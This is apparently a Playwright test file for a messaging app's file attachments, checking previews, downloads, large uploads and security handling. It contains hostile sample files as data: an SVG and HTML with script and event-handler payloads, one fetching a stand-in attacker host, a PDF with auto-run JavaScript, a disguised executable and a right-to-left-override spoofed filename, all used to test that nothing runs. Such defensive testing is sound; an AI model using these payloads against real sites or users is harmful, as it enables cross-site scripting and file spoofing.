"""Files: sending, looking, saving, and files that mean harm or lie."""

import hashlib
import struct
import zlib

from playwright.sync_api import expect

HOSTILE_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40" onload="alert(1)">
<script>top.document.title = 'taken'; fetch('/v1/me').then(() => fetch('http://evil.example/'))</script>
<image href="http://evil.example/a.png" width="9" height="9"/>
<rect width="80" height="40" fill="teal"/></svg>"""
HOSTILE_HTML = b"""<!doctype html><script>top.document.title = 'taken'</script>
<img src="http://evil.example/b.png" onerror="top.document.title='taken'">"""
PDF = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 420 595]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj
4 0 obj<</Length 44>>stream
BT /F1 24 Tf 60 480 Td (A contract) Tj ET   \n
endstream endobj
5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Times-Roman>>endobj
trailer<</Root 1 0 R>>
"""


def png(width, height):
    def chunk(kind, data):
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))
    rows = b"".join(b"\0" + b"\x9e\x2a\x2b" * width for _ in range(height))
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows))
            + chunk(b"IEND", b""))


def deliver(pair, *files, text=""):
    """a sends the files, b opens the newest letter; gives b's desk."""
    a_desk, a, b_desk, b = pair
    a_desk.find_person(b.name)
    a_desk.composer().fill(text)
    a_desk.attach(*files)
    a_desk.press("Seal and send")
    expect(a_desk.page.get_by_text("Sealed and delivered")).to_have_count(len(files))
    b_desk.open_conversation(a.name)
    b_desk.break_seal()
    return b_desk


def upload(name, kind, content):
    return {"name": name, "mimeType": kind, "buffer": content}


def save(desk, name):
    suggested, content = desk.save(f"Download {name}")
    assert suggested == name
    return content


def test_a_picture_is_shown_and_saved_as_it_was(pair):
    picture = png(40, 30)
    desk = deliver(pair, upload("wax.png", "image/png", picture), text="look")
    expect(desk.page.get_by_role("img", name="Picture: wax.png")).to_be_visible()
    desk.page.wait_for_function("document.querySelector('.preview-image').naturalWidth === 40")
    expect(desk.page.get_by_text("look", exact=True)).to_be_visible()
    desk.shoot("picture")
    assert save(desk, "wax.png") == picture


def test_hostile_pictures_and_pages_run_nothing(pair):
    desk = deliver(pair, upload("harm.svg", "image/svg+xml", HOSTILE_SVG))
    expect(desk.page.get_by_role("img", name="Picture: harm.svg")).to_be_visible()
    assert save(desk, "harm.svg") == HOSTILE_SVG
    desk = deliver(pair, upload("harm.html", "text/html", HOSTILE_HTML))
    expect(desk.page.get_by_role("region", name="Content of harm.html")).to_contain_text("<script>")
    assert "taken" not in desk.page.title()
    assert save(desk, "harm.html") == HOSTILE_HTML


def test_the_address_of_a_hostile_file_opened_by_itself_runs_nothing(pair):
    desk = deliver(pair, upload("harm.svg", "image/svg+xml", HOSTILE_SVG))
    letter = desk.page.evaluate("""async () => {
        const list = await (await fetch('/v1/letters?box=inbox')).json();
        return list.items[0].id; }""")
    answer = desk.page.request.get(f"{desk.url}/v1/letters/{letter}/content")
    assert "sandbox" in answer.headers["content-security-policy"]
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-disposition"].startswith("attachment")


def test_a_picture_that_is_none_says_so(pair):
    desk = deliver(pair, upload("fake.png", "image/png", b"MZ not a picture"))
    expect(desk.page.get_by_text("This file cannot be shown here")).to_be_visible()
    assert save(desk, "fake.png") == b"MZ not a picture"


def test_a_pdf_is_drawn_and_its_script_does_not_run(pair):
    desk = deliver(pair, upload("contract.pdf", "application/pdf", PDF))
    desk.press("Look")
    page = desk.page.get_by_role("img", name="Page 1 of 1")
    expect(page).to_be_visible()
    desk.page.wait_for_function("""() => {
        const canvas = document.querySelector('.pdf-page');
        const data = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data;
        return data.some((byte, i) => i % 4 === 0 && byte < 100); }""")
    desk.shoot("pdf")
    desk.page.keyboard.press("Escape")
    expect(page).to_have_count(0)


def test_an_empty_file_and_a_text_file(pair):
    desk = deliver(pair, upload("empty.bin", "application/octet-stream", b""))
    expect(desk.page.get_by_text("0 bytes", exact=True)).to_be_visible()
    assert save(desk, "empty.bin") == b""
    desk = deliver(pair, upload("notes.txt", "text/plain", "Grüße 😀\n".encode() * 20_000))
    expect(desk.page.get_by_role("region", name="Content of notes.txt")).to_contain_text("Grüße 😀")
    expect(desk.page.get_by_text("This is the beginning")).to_be_visible()


def test_several_files_become_several_letters(pair):
    a_desk, a, b_desk, b = pair
    a_desk.find_person(b.name)
    a_desk.attach(upload("one.txt", "text/plain", b"1"), upload("two.txt", "text/plain", b"2"))
    expect(a_desk.page.get_by_text("Sent as 2 letters")).to_be_visible()
    a_desk.press("Remove two.txt")
    a_desk.attach(upload("three.txt", "text/plain", b"3"))
    a_desk.write("both")
    expect(a_desk.page.get_by_text("Sealed and delivered")).to_have_count(2)


def test_dropped_and_pasted_files_are_attached(pair):
    a_desk, a, b_desk, b = pair
    a_desk.find_person(b.name)
    for kind, target in (("drop", ".thread-list"), ("paste", ".composer textarea")):
        a_desk.page.evaluate("""([kind, target]) => {
            const transfer = new DataTransfer();
            transfer.items.add(new File(['x'], `${kind}.png`, { type: 'image/png' }));
            const init = { bubbles: true, cancelable: true };
            const event = kind === 'paste'
                ? new ClipboardEvent('paste', init)
                : new DragEvent('drop', { ...init, dataTransfer: transfer });
            // Firefox makes a clipboardData of its own, an empty one, for a script's event.
            if (kind === 'paste')
                Object.defineProperty(event, 'clipboardData', { value: transfer });
            document.querySelector(target).dispatchEvent(event); }""", [kind, target])
        expect(a_desk.page.get_by_text(f"{kind}.png")).to_be_visible()


def test_a_name_that_turns_itself_round_is_shown_for_what_it_is(pair):
    desk = deliver(pair, upload("invoice\u202efdp.exe", "application/octet-stream", b"x"))
    expect(desk.page.get_by_text("invoice␣fdp.exe")).to_be_visible()


def test_a_large_file_shows_its_progress_and_arrives_whole(pair, tmp_path):
    a_desk, a, b_desk, b = pair
    path = tmp_path / "large.bin"
    path.write_bytes(bytes(range(256)) * (64 * 4096))
    a_desk.find_person(b.name)
    a_desk.attach(path)
    a_desk.press("Seal and send")
    expect(a_desk.page.get_by_role("progressbar")).to_be_visible()
    expect(a_desk.page.get_by_text("Sealed and delivered")).to_be_visible(timeout=60_000)
    b_desk.open_conversation(a.name)
    b_desk.break_seal()
    got = save(b_desk, "large.bin")
    assert hashlib.sha256(got).digest() == hashlib.sha256(path.read_bytes()).digest()


def test_two_gigabytes_can_be_started_and_stopped(pair, tmp_path):
    a_desk, a, b_desk, b = pair
    path = tmp_path / "huge.bin"
    with open(path, "wb") as f:
        f.truncate(2 * 1024 ** 3 + 1)
    a_desk.find_person(b.name)
    a_desk.attach(path)
    a_desk.press("Seal and send")
    expect(a_desk.page.get_by_text("of 2 GB")).to_be_visible()
    a_desk.press("Cancel")
    expect(a_desk.letters()).to_have_count(0)
    a_desk.write("still working")
    expect(a_desk.page.get_by_text("Sealed and delivered")).to_be_visible()
